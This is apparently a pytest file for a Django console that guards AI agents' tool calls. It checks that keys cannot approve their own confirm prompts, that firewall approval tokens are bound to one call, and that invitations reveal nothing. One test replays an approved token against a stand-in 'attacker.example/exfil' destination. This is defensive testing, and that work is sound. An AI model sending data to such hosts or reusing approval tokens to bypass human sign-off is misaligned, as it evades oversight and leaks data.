"""Approval and identity: the attacks on who answers a confirm prompt, what a firewall token
covers, and the people directory (issue 13), each replayed against the console's API and pages."""

from __future__ import annotations

import json
import re

import pytest
from django.test import Client

from console import services as console_services
from console.models import AuditRow, Invitation, Membership
from guard.models import ApprovalRequest
from tests.guard_console.test_approvals import REFUND
from tests.guard_console.test_sessions_api import _open, _post

pytestmark = pytest.mark.django_db


@pytest.fixture(scope="module")
def shop():
    from stalwart_agents import Agent
    from tests.guard_console.test_sessions_api import SHOP

    desk = Agent.from_file(SHOP)
    return desk.catalogue(), desk.rules().record


def _key(actor, *, role: str, owner, may_approve: bool = False) -> str:  # noqa: ANN001
    _, plain = console_services.api_key_create(
        actor=actor, name=f"{role}-key", role=role, owner_id=owner.pk, may_approve=may_approve
    )
    return plain


def _key_client(plain: str) -> Client:
    return Client(HTTP_AUTHORIZATION=f"Bearer {plain}")


def _confirm(client, shop) -> str:  # noqa: ANN001
    """Raise a confirm prompt in the tool check; the approval's id."""
    session = _open(client, shop)
    body = _post(client, f"/v1/sessions/{session}/check", REFUND).json()
    assert body["decision"] == "confirm", body
    return body["approval"]


# -- 1. Nobody approves a call they asked for: keys included -------------------------------------


def test_a_key_cannot_answer_the_confirm_prompt_it_raised(
    shop, admin, approver, organisation, actor_for
):
    key = _key(actor_for(admin, organisation), role="approver", owner=approver, may_approve=True)
    client = _key_client(key)
    approval = _confirm(client, shop)
    answer = client.post(f"/v1/approvals/{approval}/approve")
    assert answer.status_code == 403, answer.content
    assert ApprovalRequest.objects.get(public_id=approval).status == "pending"


def test_a_key_cannot_answer_what_it_asked_after_its_owner_changes(
    shop, admin, approver, organisation, actor_for
):
    from console.models import ApiKey

    key = _key(actor_for(admin, organisation), role="approver", owner=approver, may_approve=True)
    approval = _confirm(_key_client(key), shop)
    # An operator hands the key to another approver (in a shell: no page changes owners).
    ApiKey.objects.update(owner=admin)
    answer = _key_client(key).post(f"/v1/approvals/{approval}/approve")
    assert answer.status_code == 403, answer.content
    assert ApprovalRequest.objects.get(public_id=approval).status == "pending"


def test_a_key_cannot_release_the_firewall_hold_it_raised(
    admin, approver, organisation, actor_for, client_for
):
    created = _post(client_for(admin), "/v1/firewall/policies", HOLD_POSTS).json()
    _post(client_for(admin), f"/v1/firewall/policies/{created['id']}/publish", {})
    key = _key(actor_for(admin, organisation), role="approver", owner=approver, may_approve=True)
    client = _key_client(key)
    held = _post(client, "/v1/firewall/evaluate", PARTNER_CALL).json()
    assert held["verdict"] == "require_approval", held
    answer = client.post(f"/v1/approvals/{held['approval']}/approve")
    assert answer.status_code == 403, answer.content
    assert ApprovalRequest.objects.get(public_id=held["approval"]).status == "pending"


def test_a_person_cannot_approve_their_own_request_with_their_key(
    shop, admin, organisation, actor_for, client_for
):
    approval = _confirm(client_for(admin), shop)
    own_key = _key(actor_for(admin, organisation), role="approver", owner=admin, may_approve=True)
    answer = _key_client(own_key).post(f"/v1/approvals/{approval}/approve")
    assert answer.status_code == 403, answer.content
    assert ApprovalRequest.objects.get(public_id=approval).status == "pending"


def test_a_person_cannot_approve_what_their_key_asked_for(
    shop, admin, approver, organisation, actor_for, client_for
):
    key = _key(actor_for(admin, organisation), role="editor", owner=approver)
    approval = _confirm(_key_client(key), shop)
    answer = client_for(approver).post(f"/v1/approvals/{approval}/approve")
    assert answer.status_code == 403, answer.content
    request = ApprovalRequest.objects.get(public_id=approval)
    assert (request.status, request.requested_by_owner_id) == ("pending", approver.pk)


def test_an_admin_key_not_made_to_approve_answers_nothing(
    shop, admin, editor, organisation, actor_for, client_for
):
    approval = _confirm(client_for(editor), shop)
    admin_key = _key(actor_for(admin, organisation), role="admin", owner=admin)
    answer = _key_client(admin_key).post(f"/v1/approvals/{approval}/approve")
    assert answer.status_code == 403, answer.content
    assert "approving key" in answer.json()["detail"]
    assert ApprovalRequest.objects.get(public_id=approval).status == "pending"


def test_an_approving_key_stops_answering_when_its_owner_loses_the_role(
    shop, admin, editor, approver, organisation, actor_for, client_for
):
    key = _key(actor_for(admin, organisation), role="approver", owner=approver, may_approve=True)
    first = _confirm(client_for(editor), shop)
    assert _key_client(key).post(f"/v1/approvals/{first}/approve").status_code == 200
    Membership.objects.filter(user=approver).update(role="auditor")
    second = _confirm(client_for(editor), shop)
    assert _key_client(key).post(f"/v1/approvals/{second}/approve").status_code == 403
    assert ApprovalRequest.objects.get(public_id=second).status == "pending"


def test_an_approving_key_needs_an_owner_who_approves(admin, editor, organisation, actor_for):
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError) as refused:
        _key(actor_for(admin, organisation), role="approver", owner=editor, may_approve=True)
    assert "owner" in refused.value.message_dict
    with pytest.raises(ValidationError) as refused:
        _key(actor_for(admin, organisation), role="editor", owner=admin, may_approve=True)
    assert "role" in refused.value.message_dict


def test_the_api_keys_page_makes_an_approving_key_for_a_named_owner(
    admin, approver, outsider, client_for
):
    client = client_for(admin)
    page = client.get("/api-keys/").content.decode()
    assert f'value="{outsider.pk}"' not in page
    made = client.post(
        "/api-keys/create",
        {"name": "pager", "role": "approver", "owner": approver.pk, "may_approve": "on"},
    )
    assert made.status_code == 200, made.content
    row = made.content.decode().split("<td>pager</td>")[1].split("</tr>")[0]
    assert "abe-approver" in row and '<td class="may-approve">yes</td>' in row
    stranger = client.post(
        "/api-keys/create", {"name": "x", "role": "approver", "owner": outsider.pk}
    )
    assert stranger.status_code == 400


# -- 2. A firewall token covers the whole call as evaluated, once --------------------------------

HOLD_POSTS = {
    "name": "posts need a person",
    "default_verdict": "allow",
    "rules": [
        {"priority": 1, "name": "posts", "tool_name_glob": "http.*", "verdict": "require_approval"}
    ],
}
PARTNER_CALL = {
    "tool": "http.post",
    "agent": "desk",
    "session": "s1",
    "arguments": {"body": "quarterly figures"},
    "destination": "https://api.partner.example/upload",
}


@pytest.fixture
def partner_token(editor, approver, client_for):
    """A person approved `http.post` to the partner; the token their approval signed."""
    client = client_for(editor)
    created = _post(client, "/v1/firewall/policies", HOLD_POSTS).json()
    _post(client, f"/v1/firewall/policies/{created['id']}/publish", {})
    held = _post(client, "/v1/firewall/evaluate", PARTNER_CALL).json()
    assert held["verdict"] == "require_approval", held
    assert client_for(approver).post(f"/v1/approvals/{held['approval']}/approve").status_code == 200
    return client, client.get(f"/v1/approvals/{held['approval']}").json()["token"]


def test_a_firewall_token_does_not_cover_another_destination(partner_token):
    client, token = partner_token
    exfil = {**PARTNER_CALL, "destination": "https://attacker.example/exfil", "token": token}
    answer = _post(client, "/v1/firewall/evaluate", exfil).json()
    assert (answer["decision"], answer["reasons"]) == ("refuse", ["token_mismatch"])
    assert answer["detail"]["differing"] == ["destination"]


def test_a_firewall_token_does_not_cover_another_stage(partner_token):
    client, token = partner_token
    inbound = {**PARTNER_CALL, "stage": "inbound", "token": token}
    answer = _post(client, "/v1/firewall/evaluate", inbound).json()
    assert (answer["decision"], answer["reasons"]) == ("refuse", ["token_mismatch"])
    assert answer["detail"]["differing"] == ["stage"]


def test_a_firewall_token_is_spent_by_its_one_call(partner_token):
    client, token = partner_token
    first = _post(client, "/v1/firewall/evaluate", {**PARTNER_CALL, "token": token}).json()
    assert (first["decision"], first["reasons"][-1]) == ("allow", "confirmed")
    again = _post(client, "/v1/firewall/evaluate", {**PARTNER_CALL, "token": token}).json()
    assert (again["decision"], again["reasons"]) == ("refuse", ["token_spent"])


@pytest.mark.django_db(transaction=True)
def test_two_calls_racing_with_one_firewall_token_let_one_through(
    partner_token, editor, organisation, actor_for
):
    import threading

    from django.db import connection

    from firewall.services import firewall_evaluate

    _, token = partner_token
    actor = actor_for(editor, organisation)
    start, answers = threading.Barrier(2), []

    def call() -> None:
        start.wait()
        try:
            answers.append(firewall_evaluate(actor=actor, call=dict(PARTNER_CALL), token=token))
        finally:
            connection.close()

    racers = [threading.Thread(target=call) for _ in range(2)]
    for racer in racers:
        racer.start()
    for racer in racers:
        racer.join(timeout=60)
    assert sorted(a["reasons"][-1] for a in answers) == ["confirmed", "token_spent"]


# -- 3. The people directory: an invitation the person accepts, and nothing revealed -------------


def _invite(client, identifier: str):  # noqa: ANN001, ANN202
    return client.post("/members/invite", {"identifier": identifier, "role": "editor"})


def _shown(response, identifier: str) -> str:
    """The page with what differs by construction (the typed name, ids, the CSRF token) blanked."""
    page = response.content.decode().replace(identifier, "NAME")
    page = re.sub(r"/members/invitations/\d+/", "/members/invitations/N/", page)
    page = re.sub(r'(name="csrfmiddlewaretoken" value=")[^"]+', r"\1T", page)
    return re.sub(r'("X-CSRFToken": ")[^"]+', r"\1T", page)


def test_another_organisations_admin_cannot_add_a_person_by_username(
    editor, outsider, other_organisation, client_for
):
    client = client_for(outsider)
    existing = _invite(client, editor.get_username())
    Invitation.objects.all().delete()
    missing = _invite(client, "nobody-at-all")
    assert existing.status_code == missing.status_code == 200
    assert _shown(existing, editor.get_username()) == _shown(missing, "nobody-at-all")
    assert not Membership.objects.filter(user=editor, organisation=other_organisation).exists()
    members = client.get("/members/").content.decode()
    assert editor.email not in members
    rows = AuditRow.objects.filter(organisation=other_organisation, action="invitation.create")
    assert editor.email not in json.dumps(list(rows.values_list("changes", flat=True)))


def test_an_invitation_by_e_mail_reveals_nothing_either(editor, outsider, client_for):
    client = client_for(outsider)
    existing = _invite(client, editor.email)
    Invitation.objects.all().delete()
    missing = _invite(client, "nobody@example.org")
    assert _shown(existing, editor.email) == _shown(missing, "nobody@example.org")
    assert editor.get_username() not in existing.content.decode().replace(editor.email, "")


def test_the_invited_person_joins_only_by_accepting(
    editor, outsider, other_organisation, client_for
):
    _invite(client_for(outsider), editor.get_username())
    person = client_for(editor)
    assert "Invitations (1)" in person.get("/").content.decode()
    page = person.get("/invitations/").content.decode()
    assert 'data-organisation="globex"' in page
    invitation = Invitation.objects.get()
    assert not Membership.objects.filter(user=editor, organisation=other_organisation).exists()
    accepted = person.post(f"/invitations/{invitation.pk}/accept")
    assert accepted.status_code == 302
    membership = Membership.objects.get(user=editor, organisation=other_organisation)
    assert membership.role == "editor"
    actions = list(
        AuditRow.objects.filter(organisation=other_organisation)
        .order_by("seq")
        .values_list("action", "actor")
    )
    assert actions == [
        ("invitation.create", "user:otto-outsider"),
        ("invitation.accept", "user:eve-editor"),
        ("membership.create", "user:eve-editor"),
    ]


def test_a_declined_invitation_makes_no_member_and_names_nobody(
    editor, outsider, other_organisation, client_for
):
    _invite(client_for(outsider), editor.email)
    invitation = Invitation.objects.get()
    assert client_for(editor).post(f"/invitations/{invitation.pk}/decline").status_code == 302
    assert not Membership.objects.filter(user=editor, organisation=other_organisation).exists()
    row = AuditRow.objects.get(organisation=other_organisation, action="invitation.decline")
    assert row.actor == f"invitee:{editor.email}" and row.actor_id is None
    assert editor.get_username() not in json.dumps(row.changes)


def test_nobody_accepts_an_invitation_made_for_someone_else(
    editor, approver, outsider, other_organisation, client_for
):
    _invite(client_for(outsider), editor.get_username())
    invitation = Invitation.objects.get()
    assert client_for(approver).post(f"/invitations/{invitation.pk}/accept").status_code == 404
    assert client_for(outsider).post(f"/invitations/{invitation.pk}/accept").status_code == 404
    assert not Membership.objects.filter(organisation=other_organisation, role="editor").exists()


@pytest.mark.parametrize("number", ["9" * 20, "9" * 5000])
def test_an_invitation_number_no_invitation_can_have_answers_404(number, editor, client_for):
    client = client_for(editor)
    client.raise_request_exception = False
    for answer in ("accept", "decline"):
        assert client.post(f"/invitations/{number}/{answer}").status_code == 404


def test_a_person_in_no_organisation_lands_on_their_invitations(outsider, client_for):
    from django.contrib.auth import get_user_model

    newcomer = get_user_model().objects.create_user(username="nina-new", password="x" * 12)
    _invite(client_for(outsider), "nina-new")
    landing = client_for(newcomer).get("/")
    assert landing.status_code == 302 and landing["Location"] == "/invitations/"
    assert "Globex" in client_for(newcomer).get("/invitations/").content.decode()
